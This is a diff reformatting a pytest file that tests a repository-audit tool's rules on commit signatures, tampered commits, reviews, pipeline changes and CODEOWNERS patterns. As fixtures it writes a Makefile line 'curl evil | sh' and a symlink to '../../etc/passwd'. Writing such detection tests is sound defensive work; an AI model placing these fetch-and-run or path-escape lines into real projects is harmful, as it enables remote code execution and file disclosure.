@@ -1,6 +1,5 @@
 """Every source/ rule: a case that fires and a near-miss that must not, on real repositories."""
 
-
 from __future__ import annotations
 
 import subprocess
@@ -69,8 +68,9 @@ def _signed_repo(repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path) -> t
     return base, allowed
 
 
-def test_signed_commit_with_trusted_key_passes(repo: git.Repo, ssh_keys: dict[str, Path],
-                                               tmp_path: Path) -> None:
+def test_signed_commit_with_trusted_key_passes(
+    repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path
+) -> None:
     base, allowed = _signed_repo(repo, ssh_keys, tmp_path)
     ev = collect(repo, base, allowed_signers=str(allowed))
     fpr = ev.commits[0].signature.fingerprint
@@ -84,8 +84,9 @@ def test_signed_commit_with_trusted_key_passes(repo: git.Repo, ssh_keys: dict[st
     assert "does not trust" in _only(other, "source/bad-signature")[0].message
 
 
-def test_unverifiable_signature_is_bad_signature(repo: git.Repo, ssh_keys: dict[str, Path],
-                                                 tmp_path: Path) -> None:
+def test_unverifiable_signature_is_bad_signature(
+    repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path
+) -> None:
     base, _ = _signed_repo(repo, ssh_keys, tmp_path)
     found = audit(collect(repo, base))  # no allowed-signers file: cannot be checked
     bad = _only(found, "source/bad-signature")
@@ -93,14 +94,20 @@ def test_unverifiable_signature_is_bad_signature(repo: git.Repo, ssh_keys: dict[
     assert not _only(found, "source/unsigned-commit")
 
 
-def test_bad_signature_on_a_tampered_commit(repo: git.Repo, ssh_keys: dict[str, Path],
-                                            tmp_path: Path) -> None:
+def test_bad_signature_on_a_tampered_commit(
+    repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path
+) -> None:
     base, allowed = _signed_repo(repo, ssh_keys, tmp_path)
     raw = sh(repo, "cat-file", "commit", "HEAD")
     tampered = raw.replace("signed", "tampered", 1) + "\n"
-    sha = subprocess.run(["git", "hash-object", "-t", "commit", "-w", "--stdin"],
-                         cwd=repo.working_tree_dir, input=tampered, text=True,
-                         capture_output=True, check=True).stdout.strip()
+    sha = subprocess.run(
+        ["git", "hash-object", "-t", "commit", "-w", "--stdin"],
+        cwd=repo.working_tree_dir,
+        input=tampered,
+        text=True,
+        capture_output=True,
+        check=True,
+    ).stdout.strip()
     sh(repo, "update-ref", "refs/heads/main", sha)
     ev = collect(repo, base, allowed_signers=str(allowed))
     assert ev.commits[0].signature.status == "B"
@@ -118,8 +125,9 @@ def test_unknown_identity_only_when_the_policy_lists_identities(repo: git.Repo) 
     hits = _only(audit(ev, allowed_identities=["*@example.invalid"]), "source/unknown-identity")
     assert {f.message.split(": ")[1].split(" ")[1] for f in hits} == {"mallory@evil.invalid"}
     assert len(hits) == 2  # author and committer
-    assert not _only(audit(ev, allowed_identities=["*@example.invalid", "mallory@*"]),
-                     "source/unknown-identity")
+    assert not _only(
+        audit(ev, allowed_identities=["*@example.invalid", "mallory@*"]), "source/unknown-identity"
+    )
 
 
 def test_pipeline_and_gate_changes(repo: git.Repo) -> None:
@@ -133,14 +141,17 @@ def test_pipeline_and_gate_changes(repo: git.Repo) -> None:
     commit(repo)
     found = audit(collect(repo, base))
     assert sorted(f.path for f in _only(found, "source/pipeline-change")) == [
-        ".github/workflows/ci.yml", "Dockerfile"]
+        ".github/workflows/ci.yml",
+        "Dockerfile",
+    ]
     assert sorted(f.path for f in _only(found, "source/gate-change")) == [
-        ".github/CODEOWNERS", "policies/release.yaml"]
+        ".github/CODEOWNERS",
+        "policies/release.yaml",
+    ]
     assert all(f.severity == Severity.HIGH for f in _only(found, "source/gate-change"))
 
 
-def test_a_pipeline_file_changed_and_reverted_within_the_range_still_counts(
-        repo: git.Repo) -> None:
+def test_a_pipeline_file_changed_and_reverted_within_the_range_still_counts(repo: git.Repo) -> None:
     base = repo.head.commit.hexsha
     write(repo, "Makefile", "all:\n\tcurl evil | sh\n")
     commit(repo)
@@ -186,12 +197,12 @@ def test_merge_of_an_approved_pull_request_counts_as_review(repo: git.Repo) -> N
     feature = commit(repo, "feature work", author="Fay <fay@example.invalid>")
     sh(repo, "checkout", "-q", "main")
     sh(repo, "merge", "-q", "--no-ff", "feature", "-m", "Merge pull request #7 from acme/feature")
-    unreviewed = _only(audit(collect(repo, base), require_review=True),
-                       "source/unreviewed-change")
+    unreviewed = _only(audit(collect(repo, base), require_review=True), "source/unreviewed-change")
     assert [f.message.split()[1] for f in unreviewed] == [feature[:12]]
     # pr-check feeds the API's reviews through options["reviews"].
-    approved = collect(repo, base, reviews=[{"number": 7, "author": "fay",
-                                              "approved_by": ["rita"]}])
+    approved = collect(
+        repo, base, reviews=[{"number": 7, "author": "fay", "approved_by": ["rita"]}]
+    )
     assert not _only(audit(approved, require_review=True), "source/unreviewed-change")
     # Near-miss: the author approving their own pull request does not count.
     own = collect(repo, base, reviews=[{"number": 7, "author": "fay", "approved_by": ["fay"]}])
@@ -204,9 +215,16 @@ def test_merge_commit_trailer_approves_the_merged_commits(repo: git.Repo) -> Non
     write(repo, "f.txt", "feature\n")
     commit(repo, "feature work", author="Fay <fay@example.invalid>")
     sh(repo, "checkout", "-q", "main")
-    sh(repo, "merge", "-q", "--no-ff", "feature", "-m",
-       "Merge branch 'feature'\n\nSee merge request acme/app!12\n\n"
-       "Approved-by: Rita <rita@example.invalid>")
+    sh(
+        repo,
+        "merge",
+        "-q",
+        "--no-ff",
+        "feature",
+        "-m",
+        "Merge branch 'feature'\n\nSee merge request acme/app!12\n\n"
+        "Approved-by: Rita <rita@example.invalid>",
+    )
     assert not _only(audit(collect(repo, base), require_review=True), "source/unreviewed-change")
 
 
@@ -216,8 +234,9 @@ def test_review_of_the_range_head_approves_the_range(repo: git.Repo) -> None:
     head = commit(repo)
     ev = collect(repo, base, reviews=[{"head_sha": head, "author": "dev", "approved_by": ["rita"]}])
     assert not _only(audit(ev, require_review=True), "source/unreviewed-change")
-    stale = collect(repo, base, reviews=[{"head_sha": "f" * 40, "author": "dev",
-                                          "approved_by": ["rita"]}])
+    stale = collect(
+        repo, base, reviews=[{"head_sha": "f" * 40, "author": "dev", "approved_by": ["rita"]}]
+    )
     assert _only(audit(stale, require_review=True), "source/unreviewed-change")
 
 
@@ -237,19 +256,22 @@ def test_no_codeowners_file_means_no_gap_findings(repo: git.Repo) -> None:
     assert not _only(audit(collect(repo)), "source/codeowners-gap")
 
 
-@pytest.mark.parametrize(("pattern", "path", "expected"), [
-    ("*", "any/deep/file", True),
-    ("*.yml", ".github/workflows/ci.yml", True),
-    ("/.github/", ".github/workflows/ci.yml", True),
-    (".github/", "sub/.github/x", True),  # a trailing slash alone does not anchor
-    ("build/logs/", "x/build/logs/a", False),  # a slash inside the pattern anchors it
-    ("apps/", "sub/apps/x", True),  # a bare directory name matches at any depth
-    ("docs/*", "docs/a.md", True),
-    ("docs/*", "docs/deep/a.md", False),  # GitHub: * does not cover nested files
-    ("**/logs", "a/b/logs/x.txt", True),
-    ("/build/logs/", "build/logs/x/y", True),
-    ("Jenkinsfile", "ci/Jenkinsfile", True),
-])
+@pytest.mark.parametrize(
+    ("pattern", "path", "expected"),
+    [
+        ("*", "any/deep/file", True),
+        ("*.yml", ".github/workflows/ci.yml", True),
+        ("/.github/", ".github/workflows/ci.yml", True),
+        (".github/", "sub/.github/x", True),  # a trailing slash alone does not anchor
+        ("build/logs/", "x/build/logs/a", False),  # a slash inside the pattern anchors it
+        ("apps/", "sub/apps/x", True),  # a bare directory name matches at any depth
+        ("docs/*", "docs/a.md", True),
+        ("docs/*", "docs/deep/a.md", False),  # GitHub: * does not cover nested files
+        ("**/logs", "a/b/logs/x.txt", True),
+        ("/build/logs/", "build/logs/x/y", True),
+        ("Jenkinsfile", "ci/Jenkinsfile", True),
+    ],
+)
 def test_codeowners_pattern_semantics(pattern: str, path: str, expected: bool) -> None:
     assert owned(path, codeowners_rules(f"{pattern} @owner\n")) is expected
 
@@ -365,8 +387,7 @@ def test_cli_check_and_collect(repo: git.Repo, capsys: pytest.CaptureFixture[str
     assert main(["check", root, "--base", "no-such-ref", "--only", "source"]) == 2
 
 
-def test_cli_check_on_a_plain_directory(tmp_path: Path,
-                                        capsys: pytest.CaptureFixture[str]) -> None:
+def test_cli_check_on_a_plain_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     (tmp_path / "README").write_text("hi\n")
     (tmp_path / "escape").symlink_to("../../etc/passwd")
     assert main(["check", str(tmp_path), "--only", "source", "--format", "json"]) == 1
@@ -379,18 +400,33 @@ def gnupg_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]
     home = tmp_path / "gnupg"
     home.mkdir(mode=0o700)
     monkeypatch.setenv("GNUPGHOME", str(home))
-    subprocess.run(["gpg", "--batch", "--quiet", "--passphrase", "", "--quick-gen-key",
-                    "Dev One <dev@example.invalid>", "ed25519", "sign", "never"],
-                   check=True, capture_output=True)
-    listing = subprocess.run(["gpg", "--list-keys", "--with-colons"], check=True,
-                             capture_output=True, text=True).stdout
+    subprocess.run(
+        [
+            "gpg",
+            "--batch",
+            "--quiet",
+            "--passphrase",
+            "",
+            "--quick-gen-key",
+            "Dev One <dev@example.invalid>",
+            "ed25519",
+            "sign",
+            "never",
+        ],
+        check=True,
+        capture_output=True,
+    )
+    listing = subprocess.run(
+        ["gpg", "--list-keys", "--with-colons"], check=True, capture_output=True, text=True
+    ).stdout
     fpr = next(line.split(":")[9] for line in listing.splitlines() if line.startswith("fpr"))
     yield fpr
     subprocess.run(["gpgconf", "--kill", "gpg-agent"], check=False, capture_output=True)
 
 
-def test_gpg_signed_commit_verifies_and_matches_trusted_key_ids(repo: git.Repo,
-                                                                gnupg_home: str) -> None:
+def test_gpg_signed_commit_verifies_and_matches_trusted_key_ids(
+    repo: git.Repo, gnupg_home: str
+) -> None:
     base = repo.head.commit.hexsha
     sh(repo, "config", "user.signingkey", gnupg_home)
     write(repo, "g.txt", "gpg\n")
@@ -416,8 +452,10 @@ def test_collect_text_format(repo: git.Repo, capsys: pytest.CaptureFixture[str])
     base = repo.head.commit.hexsha
     write(repo, "a", "1")
     sha = commit(repo, "a change")
-    assert main(["collect", "source", str(repo.working_tree_dir), "--base", base,
-                 "--format", "text"]) == 0
+    assert (
+        main(["collect", "source", str(repo.working_tree_dir), "--base", base, "--format", "text"])
+        == 0
+    )
     out = capsys.readouterr().out
     assert f"{sha[:12]} sig=N dev@example.invalid a change" in out
     assert "ancestor of head: True" in out
